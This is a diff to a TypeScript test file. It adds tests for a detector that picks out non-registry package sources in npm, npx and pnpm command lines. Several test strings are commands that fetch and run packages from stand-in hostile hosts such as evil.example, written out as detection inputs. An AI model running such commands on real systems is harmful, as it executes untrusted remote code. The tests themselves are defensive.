@@ -11,6 +11,7 @@ import { lockfilesFor } from "../../src/run/lockfiles.ts"
 import { runNpmrc } from "../../src/run/npmrc.ts"
 import { elsewhereArguments, hasOwnGuard, refuseOutvoted } from "../../src/run/pnpm.ts"
 import { isUnfrozen, pinnedConfigDependencies, pnpmSettings, refuseOtherLockfiles } from "../../src/run/pnpm-settings.ts"
+import { otherSources } from "../../src/run/other-sources.ts"
 import { makeRunDir } from "../../src/run/run-dir.ts"
 import { restoreAddresses, restoreText } from "../../src/run/restore.ts"
 import { formatRunSummary } from "../../src/run/index.ts"
@@ -167,6 +168,19 @@ describe("lockfile first (pnpm's warm store)", () => {
     await expect(refuseOutvoted(readCommand(["pnpm", "dlx", "x"], dir), () => Promise.resolve("12.0.0"))).resolves.toBeUndefined()
     await expect(refuseOutvoted(readCommand(["pnpm", "dlx", "x"], folder()), () => Promise.reject(new Error("not asked")))).resolves.toBeUndefined()
   })
+})
+
+describe("sources that no registry holds, on the command line", () => {
+  const named = (line: string): string[] => otherSources(readCommand(line.split(" "), root)).map(({ name }) => name)
+  test.each([
+    ["npx -y https://evil.example/x.tgz", "https://evil.example/x.tgz"], ["npx user/repo --flag", "user/repo"], ["npm exec -- github:user/repo", "github:user/repo"], ["npm exec --package=git+ssh://git@evil.example/x.git x", "git+ssh://git@evil.example/x.git"], ["npx -p user/repo tool", "user/repo"],
+    ["npm init user/repo", "user/repo"], ["npm i -g x@https://evil.example/x.tgz", "x@https://evil.example/x.tgz"], ["npm install @s/x@user/repo", "@s/x@user/repo"], ["npm i --prefix sub/dir user/repo", "user/repo"], ["pnpm add -w user/repo#main", "user/repo#main"],
+    ["pnpm dlx git+file:///evil.git", "git+file:///evil.git"], ["pnpm --package=https://evil.example/x.tgz dlx x", "https://evil.example/x.tgz"], ["pnpm dlx --allow-build=y HTTP://evil.example/x.tgz", "HTTP://evil.example/x.tgz"], ["pnpm dlx --reporter silent user/repo", "user/repo"], ["pnpm dlx --allow-build y user/repo", "user/repo"], ["pnpm add -g git@evil.example:x/y.git", "git@evil.example:x/y.git"],
+  ])("%s", (line, word) => { expect(named(line)).toEqual([word]) })
+  test.each([
+    "npm install", "npm ci", "npm i @s/x@1.0.0 x@^2 x@latest y@npm:@s/x@1", "npm install --prefix sub/dir", "npm i -w packages/a x", "npm run build https://a.example/", "npx tool user/repo https://a.example/", "npx @s/tool", "npx -p @s/tool tool user/repo", "npm init @s/x", "pnpm add x --filter @s/a", "pnpm add ./x.tgz ../y",
+    "pnpm dlx tool user/repo", "pnpm update @s/*", "yarn add user/repo", "make user/repo",
+  ])("%s names none", (line) => { expect(named(line)).toEqual([]) })
 })
 
 describe("pnpm's settings", () => {
